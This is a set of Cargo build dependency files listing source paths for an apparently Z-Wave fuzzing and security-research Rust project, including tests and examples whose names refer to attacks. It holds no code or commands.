/root/repo/target/debug/deps/zcover_suite-04f9a95816357752: src/lib.rs

src/lib.rs:

/root/repo/target/debug/deps/micro-af07e56e88847c66.d: crates/bench/benches/micro.rs Cargo.toml

/root/repo/target/debug/deps/libmicro-af07e56e88847c66.rmeta: crates/bench/benches/micro.rs Cargo.toml

crates/bench/benches/micro.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR

/root/repo/target/debug/deps/encapsulation-8d494edb7707bb27.d: tests/encapsulation.rs

/root/repo/target/debug/deps/encapsulation-8d494edb7707bb27: tests/encapsulation.rs

tests/encapsulation.rs:

/root/repo/target/debug/deps/zcover-c256a4c7f903aed4.d: crates/core/src/bin/zcover.rs

/root/repo/target/debug/deps/zcover-c256a4c7f903aed4: crates/core/src/bin/zcover.rs

crates/core/src/bin/zcover.rs:

/root/repo/target/debug/deps/table2-87f402f902bf9b5b.d: crates/bench/src/bin/table2.rs

/root/repo/target/debug/deps/libtable2-87f402f902bf9b5b.rmeta: crates/bench/src/bin/table2.rs

crates/bench/src/bin/table2.rs:

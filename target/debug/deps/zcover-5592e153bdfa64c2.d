/root/repo/target/debug/deps/zcover-5592e153bdfa64c2.d: crates/core/src/lib.rs crates/core/src/active.rs crates/core/src/buglog.rs crates/core/src/discovery.rs crates/core/src/dongle.rs crates/core/src/executor.rs crates/core/src/fuzzer.rs crates/core/src/minimize.rs crates/core/src/mutation.rs crates/core/src/passive.rs crates/core/src/report.rs crates/core/src/target.rs crates/core/src/trials.rs

/root/repo/target/debug/deps/libzcover-5592e153bdfa64c2.rmeta: crates/core/src/lib.rs crates/core/src/active.rs crates/core/src/buglog.rs crates/core/src/discovery.rs crates/core/src/dongle.rs crates/core/src/executor.rs crates/core/src/fuzzer.rs crates/core/src/minimize.rs crates/core/src/mutation.rs crates/core/src/passive.rs crates/core/src/report.rs crates/core/src/target.rs crates/core/src/trials.rs

crates/core/src/lib.rs:
crates/core/src/active.rs:
crates/core/src/buglog.rs:
crates/core/src/discovery.rs:
crates/core/src/dongle.rs:
crates/core/src/executor.rs:
crates/core/src/fuzzer.rs:
crates/core/src/minimize.rs:
crates/core/src/mutation.rs:
crates/core/src/passive.rs:
crates/core/src/report.rs:
crates/core/src/target.rs:
crates/core/src/trials.rs:

/root/repo/target/debug/deps/remediation-28186ef1466ada67.d: tests/remediation.rs

/root/repo/target/debug/deps/remediation-28186ef1466ada67: tests/remediation.rs

tests/remediation.rs:

/root/repo/target/debug/deps/robustness-5b5ac3f5a73477c1.d: tests/robustness.rs Cargo.toml

/root/repo/target/debug/deps/librobustness-5b5ac3f5a73477c1.rmeta: tests/robustness.rs Cargo.toml

tests/robustness.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR

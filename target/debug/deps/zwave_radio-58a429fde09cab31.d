/root/repo/target/debug/deps/zwave_radio-58a429fde09cab31.d: crates/zwave-radio/src/lib.rs crates/zwave-radio/src/clock.rs crates/zwave-radio/src/medium.rs crates/zwave-radio/src/noise.rs crates/zwave-radio/src/region.rs crates/zwave-radio/src/sniffer.rs

/root/repo/target/debug/deps/libzwave_radio-58a429fde09cab31.rmeta: crates/zwave-radio/src/lib.rs crates/zwave-radio/src/clock.rs crates/zwave-radio/src/medium.rs crates/zwave-radio/src/noise.rs crates/zwave-radio/src/region.rs crates/zwave-radio/src/sniffer.rs

crates/zwave-radio/src/lib.rs:
crates/zwave-radio/src/clock.rs:
crates/zwave-radio/src/medium.rs:
crates/zwave-radio/src/noise.rs:
crates/zwave-radio/src/region.rs:
crates/zwave-radio/src/sniffer.rs:

/root/repo/target/debug/deps/zcover-dcd03d42bc895c05.d: crates/core/src/bin/zcover.rs

/root/repo/target/debug/deps/libzcover-dcd03d42bc895c05.rmeta: crates/core/src/bin/zcover.rs

crates/core/src/bin/zcover.rs:

/root/repo/target/debug/deps/zcover-86321d63b67b2a74.d: crates/core/src/lib.rs crates/core/src/active.rs crates/core/src/buglog.rs crates/core/src/discovery.rs crates/core/src/dongle.rs crates/core/src/executor.rs crates/core/src/fuzzer.rs crates/core/src/minimize.rs crates/core/src/mutation.rs crates/core/src/passive.rs crates/core/src/report.rs crates/core/src/target.rs crates/core/src/trials.rs Cargo.toml

/root/repo/target/debug/deps/libzcover-86321d63b67b2a74.rmeta: crates/core/src/lib.rs crates/core/src/active.rs crates/core/src/buglog.rs crates/core/src/discovery.rs crates/core/src/dongle.rs crates/core/src/executor.rs crates/core/src/fuzzer.rs crates/core/src/minimize.rs crates/core/src/mutation.rs crates/core/src/passive.rs crates/core/src/report.rs crates/core/src/target.rs crates/core/src/trials.rs Cargo.toml

crates/core/src/lib.rs:
crates/core/src/active.rs:
crates/core/src/buglog.rs:
crates/core/src/discovery.rs:
crates/core/src/dongle.rs:
crates/core/src/executor.rs:
crates/core/src/fuzzer.rs:
crates/core/src/minimize.rs:
crates/core/src/mutation.rs:
crates/core/src/passive.rs:
crates/core/src/report.rs:
crates/core/src/target.rs:
crates/core/src/trials.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR

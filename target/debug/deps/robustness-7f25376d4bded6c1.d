/root/repo/target/debug/deps/robustness-7f25376d4bded6c1.d: crates/bench/src/bin/robustness.rs Cargo.toml

/root/repo/target/debug/deps/librobustness-7f25376d4bded6c1.rmeta: crates/bench/src/bin/robustness.rs Cargo.toml

crates/bench/src/bin/robustness.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR

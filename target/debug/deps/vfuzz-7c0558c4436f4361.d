/root/repo/target/debug/deps/vfuzz-7c0558c4436f4361.d: crates/vfuzz/src/lib.rs Cargo.toml

/root/repo/target/debug/deps/libvfuzz-7c0558c4436f4361.rmeta: crates/vfuzz/src/lib.rs Cargo.toml

crates/vfuzz/src/lib.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR

/root/repo/target/debug/deps/comparison-02734dc1506c09aa.d: tests/comparison.rs

/root/repo/target/debug/deps/comparison-02734dc1506c09aa: tests/comparison.rs

tests/comparison.rs:

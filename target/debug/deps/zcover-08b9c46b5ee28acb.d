/root/repo/target/debug/deps/zcover-08b9c46b5ee28acb.d: crates/core/src/bin/zcover.rs Cargo.toml

/root/repo/target/debug/deps/libzcover-08b9c46b5ee28acb.rmeta: crates/core/src/bin/zcover.rs Cargo.toml

crates/core/src/bin/zcover.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR

/root/repo/target/debug/deps/golden_vectors-1b4f65a8e73cea57.d: crates/zwave-protocol/tests/golden_vectors.rs Cargo.toml

/root/repo/target/debug/deps/libgolden_vectors-1b4f65a8e73cea57.rmeta: crates/zwave-protocol/tests/golden_vectors.rs Cargo.toml

crates/zwave-protocol/tests/golden_vectors.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR

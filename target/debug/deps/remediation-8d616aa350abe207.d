/root/repo/target/debug/deps/remediation-8d616aa350abe207.d: tests/remediation.rs Cargo.toml

/root/repo/target/debug/deps/libremediation-8d616aa350abe207.rmeta: tests/remediation.rs Cargo.toml

tests/remediation.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR

/root/repo/target/debug/deps/zcover_suite-6bacf2397adf7a6f.d: src/lib.rs Cargo.toml

/root/repo/target/debug/deps/libzcover_suite-6bacf2397adf7a6f.rmeta: src/lib.rs Cargo.toml

src/lib.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR

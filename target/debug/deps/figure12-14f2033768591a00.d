/root/repo/target/debug/deps/figure12-14f2033768591a00.d: crates/bench/src/bin/figure12.rs Cargo.toml

/root/repo/target/debug/deps/libfigure12-14f2033768591a00.rmeta: crates/bench/src/bin/figure12.rs Cargo.toml

crates/bench/src/bin/figure12.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR

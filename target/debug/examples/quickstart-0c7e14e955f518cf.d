/root/repo/target/debug/examples/quickstart-0c7e14e955f518cf.d: examples/quickstart.rs Cargo.toml

/root/repo/target/debug/examples/libquickstart-0c7e14e955f518cf.rmeta: examples/quickstart.rs Cargo.toml

examples/quickstart.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR

/root/repo/target/debug/examples/memory_tampering-07b637fed4e4b0c2.d: examples/memory_tampering.rs

/root/repo/target/debug/examples/memory_tampering-07b637fed4e4b0c2: examples/memory_tampering.rs

examples/memory_tampering.rs:

/root/repo/target/debug/examples/smart_home_attack-e39f66aea66a1fe4.d: examples/smart_home_attack.rs Cargo.toml

/root/repo/target/debug/examples/libsmart_home_attack-e39f66aea66a1fe4.rmeta: examples/smart_home_attack.rs Cargo.toml

examples/smart_home_attack.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR

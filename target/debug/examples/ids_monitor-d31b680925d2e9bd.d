/root/repo/target/debug/examples/ids_monitor-d31b680925d2e9bd.d: examples/ids_monitor.rs

/root/repo/target/debug/examples/ids_monitor-d31b680925d2e9bd: examples/ids_monitor.rs

examples/ids_monitor.rs:

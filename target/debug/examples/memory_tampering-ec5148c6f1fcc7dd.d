/root/repo/target/debug/examples/memory_tampering-ec5148c6f1fcc7dd.d: examples/memory_tampering.rs Cargo.toml

/root/repo/target/debug/examples/libmemory_tampering-ec5148c6f1fcc7dd.rmeta: examples/memory_tampering.rs Cargo.toml

examples/memory_tampering.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR

/root/repo/target/debug/examples/s0_downgrade-d53e26c166a3eb37.d: examples/s0_downgrade.rs Cargo.toml

/root/repo/target/debug/examples/libs0_downgrade-d53e26c166a3eb37.rmeta: examples/s0_downgrade.rs Cargo.toml

examples/s0_downgrade.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR

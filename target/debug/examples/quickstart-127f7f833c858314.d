/root/repo/target/debug/examples/quickstart-127f7f833c858314.d: examples/quickstart.rs

/root/repo/target/debug/examples/quickstart-127f7f833c858314: examples/quickstart.rs

examples/quickstart.rs:

/root/repo/target/debug/examples/smart_home_attack-78edab52efe73738.d: examples/smart_home_attack.rs

/root/repo/target/debug/examples/smart_home_attack-78edab52efe73738: examples/smart_home_attack.rs

examples/smart_home_attack.rs:

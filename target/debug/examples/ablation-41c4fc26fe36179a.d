/root/repo/target/debug/examples/ablation-41c4fc26fe36179a.d: examples/ablation.rs Cargo.toml

/root/repo/target/debug/examples/libablation-41c4fc26fe36179a.rmeta: examples/ablation.rs Cargo.toml

examples/ablation.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR

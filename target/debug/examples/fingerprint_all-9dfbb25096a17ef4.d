/root/repo/target/debug/examples/fingerprint_all-9dfbb25096a17ef4.d: examples/fingerprint_all.rs Cargo.toml

/root/repo/target/debug/examples/libfingerprint_all-9dfbb25096a17ef4.rmeta: examples/fingerprint_all.rs Cargo.toml

examples/fingerprint_all.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR

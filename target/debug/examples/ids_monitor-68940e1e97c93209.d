/root/repo/target/debug/examples/ids_monitor-68940e1e97c93209.d: examples/ids_monitor.rs Cargo.toml

/root/repo/target/debug/examples/libids_monitor-68940e1e97c93209.rmeta: examples/ids_monitor.rs Cargo.toml

examples/ids_monitor.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR

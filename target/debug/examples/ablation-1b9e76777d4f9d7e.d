/root/repo/target/debug/examples/ablation-1b9e76777d4f9d7e.d: examples/ablation.rs

/root/repo/target/debug/examples/ablation-1b9e76777d4f9d7e: examples/ablation.rs

examples/ablation.rs:

/root/repo/target/debug/examples/s0_downgrade-e3f6620dfc416112.d: examples/s0_downgrade.rs

/root/repo/target/debug/examples/s0_downgrade-e3f6620dfc416112: examples/s0_downgrade.rs

examples/s0_downgrade.rs:

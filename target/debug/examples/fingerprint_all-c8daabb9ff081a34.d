/root/repo/target/debug/examples/fingerprint_all-c8daabb9ff081a34.d: examples/fingerprint_all.rs

/root/repo/target/debug/examples/fingerprint_all-c8daabb9ff081a34: examples/fingerprint_all.rs

examples/fingerprint_all.rs:

/root/repo/target/release/deps/zcover_suite-76ca05781d164c6c.d: src/lib.rs

/root/repo/target/release/deps/libzcover_suite-76ca05781d164c6c.rlib: src/lib.rs

/root/repo/target/release/deps/libzcover_suite-76ca05781d164c6c.rmeta: src/lib.rs

src/lib.rs:

/root/repo/target/release/deps/table4-a9a22810ab72a5f1.d: crates/bench/src/bin/table4.rs

/root/repo/target/release/deps/table4-a9a22810ab72a5f1: crates/bench/src/bin/table4.rs

crates/bench/src/bin/table4.rs:

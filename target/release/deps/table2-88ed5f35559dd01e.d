/root/repo/target/release/deps/table2-88ed5f35559dd01e.d: crates/bench/src/bin/table2.rs

/root/repo/target/release/deps/table2-88ed5f35559dd01e: crates/bench/src/bin/table2.rs

crates/bench/src/bin/table2.rs:

/root/repo/target/release/deps/table2-19f0d4c7faa9736a.d: crates/bench/src/bin/table2.rs

/root/repo/target/release/deps/table2-19f0d4c7faa9736a: crates/bench/src/bin/table2.rs

crates/bench/src/bin/table2.rs:

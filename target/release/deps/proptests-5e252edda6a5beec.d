/root/repo/target/release/deps/proptests-5e252edda6a5beec.d: crates/core/tests/proptests.rs

/root/repo/target/release/deps/proptests-5e252edda6a5beec: crates/core/tests/proptests.rs

crates/core/tests/proptests.rs:

/root/repo/target/release/deps/comparison-5d52bde3b78ab667.d: tests/comparison.rs

/root/repo/target/release/deps/comparison-5d52bde3b78ab667: tests/comparison.rs

tests/comparison.rs:

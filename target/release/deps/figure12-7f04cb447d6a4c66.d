/root/repo/target/release/deps/figure12-7f04cb447d6a4c66.d: crates/bench/src/bin/figure12.rs

/root/repo/target/release/deps/figure12-7f04cb447d6a4c66: crates/bench/src/bin/figure12.rs

crates/bench/src/bin/figure12.rs:

/root/repo/target/release/deps/vfuzz-99dee3557138cf9e.d: crates/vfuzz/src/lib.rs

/root/repo/target/release/deps/vfuzz-99dee3557138cf9e: crates/vfuzz/src/lib.rs

crates/vfuzz/src/lib.rs:

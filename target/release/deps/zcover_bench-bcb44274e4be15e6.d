/root/repo/target/release/deps/zcover_bench-bcb44274e4be15e6.d: crates/bench/src/lib.rs crates/bench/src/experiments.rs crates/bench/src/paperdata.rs crates/bench/src/render.rs

/root/repo/target/release/deps/libzcover_bench-bcb44274e4be15e6.rlib: crates/bench/src/lib.rs crates/bench/src/experiments.rs crates/bench/src/paperdata.rs crates/bench/src/render.rs

/root/repo/target/release/deps/libzcover_bench-bcb44274e4be15e6.rmeta: crates/bench/src/lib.rs crates/bench/src/experiments.rs crates/bench/src/paperdata.rs crates/bench/src/render.rs

crates/bench/src/lib.rs:
crates/bench/src/experiments.rs:
crates/bench/src/paperdata.rs:
crates/bench/src/render.rs:

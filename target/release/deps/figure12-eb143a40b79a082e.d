/root/repo/target/release/deps/figure12-eb143a40b79a082e.d: crates/bench/src/bin/figure12.rs

/root/repo/target/release/deps/figure12-eb143a40b79a082e: crates/bench/src/bin/figure12.rs

crates/bench/src/bin/figure12.rs:

/root/repo/target/release/deps/robustness-58d462f73b31f093.d: crates/bench/src/bin/robustness.rs

/root/repo/target/release/deps/robustness-58d462f73b31f093: crates/bench/src/bin/robustness.rs

crates/bench/src/bin/robustness.rs:

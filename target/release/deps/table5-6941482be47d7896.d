/root/repo/target/release/deps/table5-6941482be47d7896.d: crates/bench/src/bin/table5.rs

/root/repo/target/release/deps/table5-6941482be47d7896: crates/bench/src/bin/table5.rs

crates/bench/src/bin/table5.rs:

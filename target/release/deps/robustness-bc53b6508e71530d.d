/root/repo/target/release/deps/robustness-bc53b6508e71530d.d: tests/robustness.rs

/root/repo/target/release/deps/robustness-bc53b6508e71530d: tests/robustness.rs

tests/robustness.rs:

/root/repo/target/release/deps/zcover_bench-45ab9a457a08893c.d: crates/bench/src/lib.rs crates/bench/src/experiments.rs crates/bench/src/paperdata.rs crates/bench/src/render.rs

/root/repo/target/release/deps/zcover_bench-45ab9a457a08893c: crates/bench/src/lib.rs crates/bench/src/experiments.rs crates/bench/src/paperdata.rs crates/bench/src/render.rs

crates/bench/src/lib.rs:
crates/bench/src/experiments.rs:
crates/bench/src/paperdata.rs:
crates/bench/src/render.rs:

/root/repo/target/release/deps/zcover-4477dfee3955cffc.d: crates/core/src/bin/zcover.rs

/root/repo/target/release/deps/zcover-4477dfee3955cffc: crates/core/src/bin/zcover.rs

crates/core/src/bin/zcover.rs:

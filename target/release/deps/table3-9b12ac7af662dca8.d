/root/repo/target/release/deps/table3-9b12ac7af662dca8.d: crates/bench/src/bin/table3.rs

/root/repo/target/release/deps/table3-9b12ac7af662dca8: crates/bench/src/bin/table3.rs

crates/bench/src/bin/table3.rs:

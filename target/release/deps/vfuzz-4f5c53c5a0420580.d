/root/repo/target/release/deps/vfuzz-4f5c53c5a0420580.d: crates/vfuzz/src/lib.rs

/root/repo/target/release/deps/libvfuzz-4f5c53c5a0420580.rlib: crates/vfuzz/src/lib.rs

/root/repo/target/release/deps/libvfuzz-4f5c53c5a0420580.rmeta: crates/vfuzz/src/lib.rs

crates/vfuzz/src/lib.rs:

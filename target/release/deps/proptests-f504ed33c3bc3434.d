/root/repo/target/release/deps/proptests-f504ed33c3bc3434.d: crates/zwave-crypto/tests/proptests.rs

/root/repo/target/release/deps/proptests-f504ed33c3bc3434: crates/zwave-crypto/tests/proptests.rs

crates/zwave-crypto/tests/proptests.rs:

/root/repo/target/release/deps/robustness-18338db4e21ec9ef.d: crates/bench/src/bin/robustness.rs

/root/repo/target/release/deps/robustness-18338db4e21ec9ef: crates/bench/src/bin/robustness.rs

crates/bench/src/bin/robustness.rs:

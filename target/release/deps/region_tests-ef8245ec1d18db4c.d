/root/repo/target/release/deps/region_tests-ef8245ec1d18db4c.d: crates/zwave-radio/tests/region_tests.rs

/root/repo/target/release/deps/region_tests-ef8245ec1d18db4c: crates/zwave-radio/tests/region_tests.rs

crates/zwave-radio/tests/region_tests.rs:

/root/repo/target/release/deps/table2-70c4a3beca1e9ca0.d: crates/bench/src/bin/table2.rs

/root/repo/target/release/deps/table2-70c4a3beca1e9ca0: crates/bench/src/bin/table2.rs

crates/bench/src/bin/table2.rs:

/root/repo/target/release/deps/sensor_device-eaffb7959abcc404.d: tests/sensor_device.rs

/root/repo/target/release/deps/sensor_device-eaffb7959abcc404: tests/sensor_device.rs

tests/sensor_device.rs:

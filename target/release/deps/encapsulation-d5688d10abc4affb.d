/root/repo/target/release/deps/encapsulation-d5688d10abc4affb.d: tests/encapsulation.rs

/root/repo/target/release/deps/encapsulation-d5688d10abc4affb: tests/encapsulation.rs

tests/encapsulation.rs:

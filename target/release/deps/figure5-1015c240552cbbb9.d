/root/repo/target/release/deps/figure5-1015c240552cbbb9.d: crates/bench/src/bin/figure5.rs

/root/repo/target/release/deps/figure5-1015c240552cbbb9: crates/bench/src/bin/figure5.rs

crates/bench/src/bin/figure5.rs:

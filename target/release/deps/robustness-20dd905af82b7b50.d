/root/repo/target/release/deps/robustness-20dd905af82b7b50.d: tests/robustness.rs

/root/repo/target/release/deps/robustness-20dd905af82b7b50: tests/robustness.rs

tests/robustness.rs:

/root/repo/target/release/deps/zcover-7b851b65999c981d.d: crates/core/src/bin/zcover.rs

/root/repo/target/release/deps/zcover-7b851b65999c981d: crates/core/src/bin/zcover.rs

crates/core/src/bin/zcover.rs:

/root/repo/target/release/deps/figure5-1766dcd33ed3f687.d: crates/bench/src/bin/figure5.rs

/root/repo/target/release/deps/figure5-1766dcd33ed3f687: crates/bench/src/bin/figure5.rs

crates/bench/src/bin/figure5.rs:

/root/repo/target/release/deps/figure12-242fd33e2ff902b4.d: crates/bench/src/bin/figure12.rs

/root/repo/target/release/deps/figure12-242fd33e2ff902b4: crates/bench/src/bin/figure12.rs

crates/bench/src/bin/figure12.rs:

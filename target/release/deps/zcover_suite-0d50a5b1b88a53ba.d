/root/repo/target/release/deps/zcover_suite-0d50a5b1b88a53ba.d: src/lib.rs

/root/repo/target/release/deps/zcover_suite-0d50a5b1b88a53ba: src/lib.rs

src/lib.rs:

/root/repo/target/release/deps/zcover_bench-90edc9dcd877c974.d: crates/bench/src/lib.rs crates/bench/src/experiments.rs crates/bench/src/paperdata.rs crates/bench/src/render.rs

/root/repo/target/release/deps/zcover_bench-90edc9dcd877c974: crates/bench/src/lib.rs crates/bench/src/experiments.rs crates/bench/src/paperdata.rs crates/bench/src/render.rs

crates/bench/src/lib.rs:
crates/bench/src/experiments.rs:
crates/bench/src/paperdata.rs:
crates/bench/src/render.rs:

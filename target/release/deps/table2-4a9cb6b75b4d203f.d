/root/repo/target/release/deps/table2-4a9cb6b75b4d203f.d: crates/bench/src/bin/table2.rs

/root/repo/target/release/deps/table2-4a9cb6b75b4d203f: crates/bench/src/bin/table2.rs

crates/bench/src/bin/table2.rs:

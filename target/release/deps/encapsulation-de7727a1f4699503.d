/root/repo/target/release/deps/encapsulation-de7727a1f4699503.d: tests/encapsulation.rs

/root/repo/target/release/deps/encapsulation-de7727a1f4699503: tests/encapsulation.rs

tests/encapsulation.rs:

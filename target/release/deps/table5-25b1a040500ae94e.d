/root/repo/target/release/deps/table5-25b1a040500ae94e.d: crates/bench/src/bin/table5.rs

/root/repo/target/release/deps/table5-25b1a040500ae94e: crates/bench/src/bin/table5.rs

crates/bench/src/bin/table5.rs:

/root/repo/target/release/deps/zwave_radio-2fc672e1047f05bb.d: crates/zwave-radio/src/lib.rs crates/zwave-radio/src/clock.rs crates/zwave-radio/src/medium.rs crates/zwave-radio/src/noise.rs crates/zwave-radio/src/region.rs crates/zwave-radio/src/sniffer.rs

/root/repo/target/release/deps/zwave_radio-2fc672e1047f05bb: crates/zwave-radio/src/lib.rs crates/zwave-radio/src/clock.rs crates/zwave-radio/src/medium.rs crates/zwave-radio/src/noise.rs crates/zwave-radio/src/region.rs crates/zwave-radio/src/sniffer.rs

crates/zwave-radio/src/lib.rs:
crates/zwave-radio/src/clock.rs:
crates/zwave-radio/src/medium.rs:
crates/zwave-radio/src/noise.rs:
crates/zwave-radio/src/region.rs:
crates/zwave-radio/src/sniffer.rs:

/root/repo/target/release/deps/inclusion_over_air-8f6a5b6ce80ecc7a.d: tests/inclusion_over_air.rs

/root/repo/target/release/deps/inclusion_over_air-8f6a5b6ce80ecc7a: tests/inclusion_over_air.rs

tests/inclusion_over_air.rs:

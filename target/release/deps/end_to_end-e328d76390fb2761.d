/root/repo/target/release/deps/end_to_end-e328d76390fb2761.d: tests/end_to_end.rs

/root/repo/target/release/deps/end_to_end-e328d76390fb2761: tests/end_to_end.rs

tests/end_to_end.rs:

/root/repo/target/release/deps/attack_scenarios-52135e39ad16d2be.d: tests/attack_scenarios.rs

/root/repo/target/release/deps/attack_scenarios-52135e39ad16d2be: tests/attack_scenarios.rs

tests/attack_scenarios.rs:

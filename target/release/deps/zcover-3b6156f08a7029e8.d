/root/repo/target/release/deps/zcover-3b6156f08a7029e8.d: crates/core/src/bin/zcover.rs

/root/repo/target/release/deps/zcover-3b6156f08a7029e8: crates/core/src/bin/zcover.rs

crates/core/src/bin/zcover.rs:

/root/repo/target/release/deps/table6-b0826b1565574a5e.d: crates/bench/src/bin/table6.rs

/root/repo/target/release/deps/table6-b0826b1565574a5e: crates/bench/src/bin/table6.rs

crates/bench/src/bin/table6.rs:

/root/repo/target/release/deps/comparison-b45ab3a7e8e573f7.d: tests/comparison.rs

/root/repo/target/release/deps/comparison-b45ab3a7e8e573f7: tests/comparison.rs

tests/comparison.rs:

/root/repo/target/release/deps/executor-fc3101e1739171b6.d: crates/bench/benches/executor.rs

/root/repo/target/release/deps/executor-fc3101e1739171b6: crates/bench/benches/executor.rs

crates/bench/benches/executor.rs:

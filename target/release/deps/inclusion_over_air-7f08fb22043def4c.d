/root/repo/target/release/deps/inclusion_over_air-7f08fb22043def4c.d: tests/inclusion_over_air.rs

/root/repo/target/release/deps/inclusion_over_air-7f08fb22043def4c: tests/inclusion_over_air.rs

tests/inclusion_over_air.rs:

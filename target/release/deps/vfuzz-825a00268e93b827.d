/root/repo/target/release/deps/vfuzz-825a00268e93b827.d: crates/vfuzz/src/lib.rs

/root/repo/target/release/deps/vfuzz-825a00268e93b827: crates/vfuzz/src/lib.rs

crates/vfuzz/src/lib.rs:

/root/repo/target/release/deps/table3-774f1a04eb055176.d: crates/bench/src/bin/table3.rs

/root/repo/target/release/deps/table3-774f1a04eb055176: crates/bench/src/bin/table3.rs

crates/bench/src/bin/table3.rs:

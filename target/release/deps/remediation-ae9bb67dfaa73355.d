/root/repo/target/release/deps/remediation-ae9bb67dfaa73355.d: tests/remediation.rs

/root/repo/target/release/deps/remediation-ae9bb67dfaa73355: tests/remediation.rs

tests/remediation.rs:

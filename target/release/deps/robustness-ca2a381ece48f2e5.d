/root/repo/target/release/deps/robustness-ca2a381ece48f2e5.d: crates/bench/src/bin/robustness.rs

/root/repo/target/release/deps/robustness-ca2a381ece48f2e5: crates/bench/src/bin/robustness.rs

crates/bench/src/bin/robustness.rs:

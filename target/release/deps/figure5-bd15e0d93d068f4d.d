/root/repo/target/release/deps/figure5-bd15e0d93d068f4d.d: crates/bench/src/bin/figure5.rs

/root/repo/target/release/deps/figure5-bd15e0d93d068f4d: crates/bench/src/bin/figure5.rs

crates/bench/src/bin/figure5.rs:

/root/repo/target/release/deps/proptests-553afdd9471b129e.d: crates/zwave-protocol/tests/proptests.rs

/root/repo/target/release/deps/proptests-553afdd9471b129e: crates/zwave-protocol/tests/proptests.rs

crates/zwave-protocol/tests/proptests.rs:

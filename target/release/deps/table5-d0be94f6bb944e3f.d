/root/repo/target/release/deps/table5-d0be94f6bb944e3f.d: crates/bench/src/bin/table5.rs

/root/repo/target/release/deps/table5-d0be94f6bb944e3f: crates/bench/src/bin/table5.rs

crates/bench/src/bin/table5.rs:

/root/repo/target/release/deps/proptests-46d36ca9ad36c158.d: crates/zwave-controller/tests/proptests.rs

/root/repo/target/release/deps/proptests-46d36ca9ad36c158: crates/zwave-controller/tests/proptests.rs

crates/zwave-controller/tests/proptests.rs:

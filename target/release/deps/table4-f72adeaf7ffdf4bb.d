/root/repo/target/release/deps/table4-f72adeaf7ffdf4bb.d: crates/bench/src/bin/table4.rs

/root/repo/target/release/deps/table4-f72adeaf7ffdf4bb: crates/bench/src/bin/table4.rs

crates/bench/src/bin/table4.rs:

/root/repo/target/release/deps/robustness-e304187cb258efbd.d: crates/bench/src/bin/robustness.rs

/root/repo/target/release/deps/robustness-e304187cb258efbd: crates/bench/src/bin/robustness.rs

crates/bench/src/bin/robustness.rs:

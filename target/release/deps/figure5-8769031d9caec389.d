/root/repo/target/release/deps/figure5-8769031d9caec389.d: crates/bench/src/bin/figure5.rs

/root/repo/target/release/deps/figure5-8769031d9caec389: crates/bench/src/bin/figure5.rs

crates/bench/src/bin/figure5.rs:

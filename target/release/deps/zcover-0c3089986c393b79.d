/root/repo/target/release/deps/zcover-0c3089986c393b79.d: crates/core/src/bin/zcover.rs

/root/repo/target/release/deps/zcover-0c3089986c393b79: crates/core/src/bin/zcover.rs

crates/core/src/bin/zcover.rs:

/root/repo/target/release/deps/attack_scenarios-e5a1bd7ec5d52ec6.d: tests/attack_scenarios.rs

/root/repo/target/release/deps/attack_scenarios-e5a1bd7ec5d52ec6: tests/attack_scenarios.rs

tests/attack_scenarios.rs:

/root/repo/target/release/deps/table6-b0e0b16097fd357f.d: crates/bench/src/bin/table6.rs

/root/repo/target/release/deps/table6-b0e0b16097fd357f: crates/bench/src/bin/table6.rs

crates/bench/src/bin/table6.rs:

/root/repo/target/release/deps/vfuzz-fc6295412b01c209.d: crates/vfuzz/src/lib.rs

/root/repo/target/release/deps/libvfuzz-fc6295412b01c209.rlib: crates/vfuzz/src/lib.rs

/root/repo/target/release/deps/libvfuzz-fc6295412b01c209.rmeta: crates/vfuzz/src/lib.rs

crates/vfuzz/src/lib.rs:

/root/repo/target/release/deps/proptests-29a64b8284d24281.d: crates/core/tests/proptests.rs

/root/repo/target/release/deps/proptests-29a64b8284d24281: crates/core/tests/proptests.rs

crates/core/tests/proptests.rs:

